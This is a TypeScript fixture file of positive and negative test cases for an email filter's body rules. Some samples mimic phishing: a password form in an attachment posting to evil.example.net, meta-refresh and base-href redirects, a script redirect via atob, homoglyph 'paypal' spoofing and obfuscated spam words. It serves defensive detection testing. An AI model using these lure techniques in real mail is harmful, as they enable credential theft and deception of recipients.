import { HONEST_TEXT, type MadeMail } from './made-mail.ts';
import { header, link, page, type RuleCases, ruleCase, text } from './rule-case.ts';

const WORDS = 'These are the minutes of our meeting about the plan for the autumn and the new hall. '.repeat(2);
const form = (content: string): MadeMail =>
  page(`<p>${WORDS}</p><form action="https://forms.example.net/go">${content}</form>`);
const raw = (type: string, body: string, encoding?: string): MadeMail => ({
  raw: { type, body, ...(encoding === undefined ? {} : { encoding }) },
});
const alternative = (plain: string, html: string): MadeMail =>
  raw(
    'multipart/alternative; boundary="alt"',
    `--alt\nContent-Type: text/plain\n\n${plain}\n--alt\nContent-Type: text/html\n\n${html}\n--alt--\n`,
  );
const SENTENCES =
  'yesterday evening several neighbours gathered beside the river because their children wanted to watch fireworks from the bridge while musicians played familiar songs under bright lanterns until midnight arrived with gentle rain falling softly over quiet streets and sleeping gardens everywhere';
const OTHERS =
  'exclusive replica watches shipped worldwide cheap luxury brands discount prices guaranteed quality order today limited stock offer collection designer handbags leather wallets sunglasses jewellery bracelets necklaces earrings premium packaging express courier tracking number refund policy support available always online';

/** Form of the body, scripts in it, pages, attachments. */
export const BODY_CASES: RuleCases = {
  'missing-mime-version': ruleCase(
    header({ 'MIME-Version': null }, { html: `<p>${WORDS}</p>` }),
    header({ 'MIME-Version': null }),
  ),
  'base64-without-need': ruleCase(
    raw('text/plain; charset=utf-8', Buffer.from(HONEST_TEXT).toString('base64'), 'base64'),
    raw('text/plain; charset=utf-8', Buffer.from(`${HONEST_TEXT} Grüße`).toString('base64'), 'base64'),
  ),
  'unknown-charset': ruleCase(
    raw('text/plain; charset=klingon-1', 'Gr\xfc\xdfe'),
    raw('text/plain; charset=iso-8859-1', 'Gr\xfc\xdfe'),
  ),
  'ascii-that-is-none': ruleCase(
    raw('text/plain; charset=us-ascii', 'Gr\xfc\xdfe'),
    raw('text/plain; charset=us-ascii', 'Gruesse'),
  ),
  'html-only': ruleCase(page(`<p>${WORDS}</p>`), [
    alternative(WORDS, `<p>${WORDS}</p>`),
    page(`<p>${WORDS}</p>`, { signed: true }),
  ]),
  'html-as-plain': ruleCase(
    raw('text/plain', `<html><body>${WORDS}</body></html>`),
    raw('text/plain', 'I like <html> best'),
  ),
  'alternative-alone': ruleCase(
    raw('multipart/alternative; boundary="alt"', `--alt\nContent-Type: text/html\n\n<p>${WORDS}</p>\n--alt--\n`),
    alternative(WORDS, `<p>${WORDS}</p>`),
  ),
  'empty-alternative': ruleCase(alternative('', `<p>${WORDS}</p>`), alternative('See the page.', `<p>${WORDS}</p>`)),
  'forms-disagree': ruleCase(alternative(SENTENCES, `<p>${OTHERS}</p>`), [
    alternative(SENTENCES, `<p>${SENTENCES}</p>`),
    alternative('Your program shows no pages.', `<p>${OTHERS}</p>`),
  ]),

  'mixed-scripts': ruleCase(
    text('Your p\xd0\xb0ypal acc\xd0\xbeunt is limited.'),
    text('A resistor of 47k\xce\xa9, and \xd0\x9f\xd1\x80\xd0\xb8\xd0\xb2\xd0\xb5\xd1\x82.'),
  ),
  'invisible-in-words': ruleCase(
    page('<p>v&#8203;i&#8203;a&#8203;g&#8203;r&#8203;a and more</p>'),
    page(`<div>&zwnj; &zwnj; &zwnj; &zwnj; &zwnj; &zwnj;</div><p>${WORDS}</p>`),
  ),
  'unexpected-script': ruleCase(
    text(
      '\xd0\x9f\xd1\x80\xd0\xb8\xd0\xb2\xd0\xb5\xd1\x82 \xd0\xb4\xd0\xbe\xd1\x80\xd0\xbe\xd0\xb3\xd0\xbe\xd0\xb9 \xd0\xb4\xd1\x80\xd1\x83\xd0\xb3 \xd0\xba\xd0\xb0\xd0\xba \xd0\xb4\xd0\xb5\xd0\xbb\xd0\xb0 \xd1\x81\xd0\xb5\xd0\xb3\xd0\xbe\xd0\xb4\xd0\xbd\xd1\x8f \xd0\xb2\xd0\xb5\xd1\x87\xd0\xb5\xd1\x80\xd0\xbe\xd0\xbc',
      {
        header: { Subject: 'x' },
      },
    ),
    text(`${WORDS} \xd0\x9f\xd1\x80\xd0\xb8\xd0\xb2\xd0\xb5\xd1\x82`),
  ),

  'hidden-text': ruleCase(
    page(`<p>Buy now</p><div style="display:none">${SENTENCES} ${OTHERS}</div>`),
    page(`<div style="display:none">Minutes of our meeting</div><p>${WORDS}</p>`),
  ),
  'image-only': ruleCase(
    page('<img src="https://pictures.example.net/1.png">'),
    page(`<p>${WORDS}</p><img src="https://pictures.example.net/1.png">`),
  ),
  'mostly-images': ruleCase(
    page('<p>The chairs of the new hall are here, and this is how they look today</p><img src="cid:1">'),
    page(`<p>${WORDS}${WORDS}</p><img src="cid:1">`),
  ),
  'form-in-mail': ruleCase(form('<input name=q>'), page(`<p>${WORDS}</p>`)),
  'password-form-in-mail': ruleCase(form('<input type=password name=p>'), form('<input name=q>')),
  'tags-in-words': ruleCase(
    page('<p>v<xq>ia<zz>gra and ci<kj>al<qq>is</p>'),
    page(`<p>${WORDS}</p><o:p></o:p><custom-box>word</custom-box>`),
  ),
  'comments-in-words': ruleCase(
    page('<p>v<!-- a -->ia<!-- b -->gr<!-- c -->a</p>'),
    page(`<!-- a --> <p>${WORDS}</p> <!-- b --> <!-- c -->`),
  ),
  'encoded-letters': ruleCase(
    page(`<p>${[...WORDS].map((letter) => `&#${letter.charCodeAt(0)};`).join('')}</p>`),
    page(`<p>${WORDS} &#97;nn&#64;sender.example</p>`),
  ),
  'base-elsewhere': ruleCase(
    { html: `<html><head><base href="http://evil.example.net/"></head><body><p>${WORDS}</p></body></html>` },
    { html: `<html><head><base target="_blank"></head><body><p>${WORDS}</p></body></html>` },
  ),
  'script-in-mail': ruleCase(
    page(`<p>${WORDS}</p><script>let a = 1;</script>`),
    page(`<p>${WORDS}</p><noscript>none</noscript>`),
  ),
  'frame-in-mail': ruleCase(
    page(`<p>${WORDS}</p><iframe src="https://a.example.net/"></iframe>`),
    page(`<p>${WORDS}</p>`),
  ),
  'page-leads-on': ruleCase(
    {
      html: `<html><head><meta http-equiv="refresh" content="0; url=https://evil.example.net/"></head><body>${WORDS}</body></html>`,
    },
    { html: `<html><head><meta http-equiv="content-type" content="text/html"></head><body>${WORDS}</body></html>` },
  ),
  'text-behind-page': ruleCase(
    { html: `<html><body><p>${WORDS}</p></body></html>\nkxjd83 hhd` },
    { html: `<html><body><p>${WORDS}</p></body></html>\n  <br>\n` },
  ),
  'shouting-font': ruleCase(
    page('<font size=7>Buy</font><font size=6>it</font><font size="+5">now</font>'),
    page(`<font size=3>${WORDS}</font><font size=7>Hall</font>`),
  ),
  marquee: ruleCase(page(`<marquee>${WORDS}</marquee>`), page(`<p>${WORDS} marquee</p>`)),

  'code-only': ruleCase(
    text('Scan the code to keep your mailbox.', {
      extra: [
        {
          path: '2',
          detectedType: 'image/png',
          links: [{ url: 'https://evil.example.net/x', shown: null, source: 'code' }],
        },
      ],
    }),
    text(`See https://www.sender.example/ and the code. ${WORDS}`, {
      extra: [
        {
          path: '2',
          detectedType: 'image/png',
          links: [{ url: 'https://www.sender.example/y', shown: null, source: 'code' }],
        },
      ],
    }),
  ),
  'code-link': ruleCase(
    {
      extra: [
        {
          path: '2',
          detectedType: 'image/png',
          links: [{ url: 'https://evil.example.net/x', shown: null, source: 'code' }],
        },
      ],
    },
    link('https://www.sender.example/y'),
  ),
  'page-attached-with-password-form': ruleCase(
    {
      attach: [
        {
          name: 'login.html',
          type: 'text/html',
          content: '<form action="https://evil.example.net/"><input type="password" name="p"></form>',
        },
      ],
    },
    { attach: [{ name: 'notes.html', type: 'text/html', content: '<p>Notes</p>' }] },
  ),
  'page-attached': ruleCase(
    text('See the file.', { attach: [{ name: 'invoice.html', type: 'text/html', content: '<p>Invoice</p>' }] }),
    [
      text('See the file.', { attach: [{ name: 'notes.txt', type: 'text/plain', content: 'Notes' }] }),
      text(WORDS.repeat(6), { attach: [{ name: 'notes.html', type: 'text/html', content: '<p>Notes</p>' }] }),
    ],
  ),
  'page-attached-with-script': ruleCase(
    text('A new voice message.', {
      attach: [{ name: 'vm.htm', type: 'text/html', content: '<script>document.location=atob("aHR0")</script>' }],
    }),
    [
      text('See the file.', { attach: [{ name: 'invoice.html', type: 'text/html', content: '<p>Invoice</p>' }] }),
      text('A secure message.', {
        attach: [{ name: 'a.html', type: 'text/html', content: '<input type="password"><script>var x = 1</script>' }],
      }),
    ],
  ),
  'password-beside-link': ruleCase(
    [
      text('See https://evil.example.net/dl/offer.zip Password 1234'),
      text('Hier: https://evil.example.net/angebot.iso - das Passwort lautet: ab12'),
    ],
    [
      text('See https://www.sender.example/offer.zip'),
      text('Your recording: https://www.sender.example/rec/1 Passcode: 7K9p'),
      text('See https://www.sender.example/offer.zip, and tell nobody your password'),
    ],
  ),
  'password-beside-archive': ruleCase(
    text('The invoice is attached. Password: 4711', {
      extra: [
        {
          path: '2',
          names: ['invoice.zip'],
          detectedType: 'application/zip',
          flags: [{ kind: 'encrypted', name: 'encrypted-member', detail: '' }],
        },
      ],
    }),
    [
      text('The password is the one we agreed on.'),
      text('The plans are attached.', {
        extra: [
          {
            path: '2',
            names: ['plans.zip'],
            detectedType: 'application/zip',
            flags: [{ kind: 'encrypted', name: 'encrypted-member', detail: '' }],
          },
        ],
      }),
    ],
  ),
  'attachment-only': ruleCase(
    text('', { attach: [{ name: 'plan.pdf', type: 'application/pdf', content: '%PDF-1.4\n%%EOF' }] }),
    { attach: [{ name: 'plan.pdf', type: 'application/pdf', content: '%PDF-1.4\n%%EOF' }] },
  ),
  'link-only': ruleCase(text('https://evil.example.net/x'), [
    text(`https://www.sender.example/ ${WORDS}`),
    text(Buffer.from('您收到一条新的询盘，请登录查看。 https://www.sender.example/').toString('latin1')),
  ]),
  'empty-mail': ruleCase(text(''), text('ok')),
  'archive-for-bill': ruleCase(
    text('Please find the invoice attached.', {
      extra: [{ path: '2', names: ['invoice.rar'], detectedType: 'application/x-rar' }],
    }),
    text('The pictures of our trip.', { extra: [{ path: '2', names: ['trip.zip'], detectedType: 'application/zip' }] }),
  ),
};
